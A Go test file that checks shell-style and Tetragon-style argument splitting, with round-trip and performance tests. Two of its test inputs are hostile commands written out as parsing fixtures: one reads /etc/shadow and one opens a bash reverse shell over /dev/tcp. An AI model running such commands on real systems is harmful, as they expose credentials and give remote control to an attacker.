package proc

import (
	"slices"
	"strings"
	"testing"
	"time"
)

func TestSplitShell(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want []string
	}{
		{"", nil},
		{"   \t ", nil},
		{"ls", []string{"ls"}},
		{"ls -la /tmp", []string{"ls", "-la", "/tmp"}},
		{"  ls \t -la\n/tmp  ", []string{"ls", "-la", "/tmp"}},
		{`sh -c 'cat /etc/shadow'`, []string{"sh", "-c", "cat /etc/shadow"}},
		{`sh -c "echo \"hi\" \$HOME \\ \x"`, []string{"sh", "-c", `echo "hi" $HOME \ \x`}},
		{`a'b c'd`, []string{"ab cd"}},            // quotes join with the word around them
		{`a "" b ''`, []string{"a", "", "b", ""}}, // empty quoted words are words
		{`echo a\ b`, []string{"echo", "a b"}},
		{`echo a\`, []string{"echo", `a\`}},     // trailing backslash kept
		{"echo a\\\nb", []string{"echo", "ab"}}, // line continuation
		{`echo it's`, []string{"echo", "it's"}}, // unclosed single quote is literal
		{`echo "unterminated arg`, []string{"echo", `"unterminated`, "arg"}},
		{`python3 /app/report.py --since '2024-04-30 00:00'`, []string{"python3", "/app/report.py", "--since", "2024-04-30 00:00"}},
		{`bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, []string{"bash", "-c", "bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444", "0>&1"}},
		{"héllo 'wörld ✓'", []string{"héllo", "wörld ✓"}},
	} {
		if got := splitShell(tc.in); !slices.Equal(got, tc.want) {
			t.Errorf("splitShell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestSplitTetragon(t *testing.T) {
	// The joined forms are what Tetragon's ArgsDecoder (cilium/tetragon
	// pkg/reader/proc/proc.go) prints for the argv on the right: arguments
	// with a space are wrapped in double quotes, nothing is escaped, and an
	// argument with a space that comes first gets a leading space.
	for _, tc := range []struct {
		in   string
		want []string
	}{
		{"", nil},
		{"https://ebpf.io/applications/#tetragon", []string{"https://ebpf.io/applications/#tetragon"}},
		{`-c "curl https://ebpf.io/applications/#tetragon"`, []string{"-c", "curl https://ebpf.io/applications/#tetragon"}},
		{` "a b" c`, []string{"a b", "c"}},
		{`"a b" "c d"`, []string{"a b", "c d"}},
		{`-c "echo "a b" | wc -c"`, []string{"-c", `echo "a b" | wc -c`}},
		{`-e s/\d+/N/ it's`, []string{"-e", `s/\d+/N/`, "it's"}},     // backslashes and apostrophes are literal
		{`"quoted"`, []string{`"quoted"`}},                           // no space inside: Tetragon did not quote it
		{`--msg="hi there" x`, []string{`--msg="hi`, `there"`, "x"}}, // Tetragon quotes whole arguments: these are two
		{`"unclosed arg`, []string{`"unclosed`, "arg"}},
		{"a\tb c", []string{"a\tb", "c"}},   // only spaces separate
		{`"a" b" c`, []string{`a" b`, "c"}}, // unbalanced inner quote: the first candidate closes
	} {
		if got := splitTetragon(tc.in); !slices.Equal(got, tc.want) {
			t.Errorf("splitTetragon(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// joinTetragon is the reference: how Tetragon's ArgsDecoder joins argv[1:]
// (cilium/tetragon pkg/reader/proc/proc.go), including its leading space
// before a quoted first argument.
func joinTetragon(argv []string) string {
	var s string
	for _, a := range argv {
		switch {
		case strings.Contains(a, " "):
			s += ` "` + a + `"`
		case s == "":
			s = a
		default:
			s += " " + a
		}
	}
	return s
}

// quoteShell is the reference for splitShell: POSIX single quoting.
func quoteShell(argv []string) string {
	q := make([]string, len(argv))
	for i, a := range argv {
		q[i] = "'" + strings.ReplaceAll(a, "'", `'\''`) + "'"
	}
	return strings.Join(q, " ")
}

func TestSplitRoundTrip(t *testing.T) {
	for _, argv := range [][]string{
		{"-c", "echo hi > /tmp/x"},
		{"a b", "c", "d e f"},
		{"it's", `back\slash`, "tab\there", "new\nline"},
		{"ünïcode ✓", "--x=y z"},
	} {
		if got := splitShell(quoteShell(argv)); !slices.Equal(got, argv) {
			t.Errorf("splitShell(quoteShell(%q)) = %q", argv, got)
		}
		if got := splitTetragon(joinTetragon(argv)); !slices.Equal(got, argv) {
			t.Errorf("splitTetragon(joinTetragon(%q)) = %q", argv, got)
		}
	}
}

// TestSplitLinear: unclosed quotes by the thousand do not make splitting
// quadratic (a 4 MB record of them would otherwise take hours).
func TestSplitLinear(t *testing.T) {
	for _, unit := range []string{`"x `, `"`, `" "x`, `'`, `\"`, `"\`} {
		s := strings.Repeat(unit, 1<<20/len(unit))
		start := time.Now()
		splitTetragon(s)
		splitShell(s)
		if d := time.Since(start); d > 2*time.Second {
			t.Fatalf("splitting %d bytes of %q took %v", len(s), unit, d)
		}
	}
}
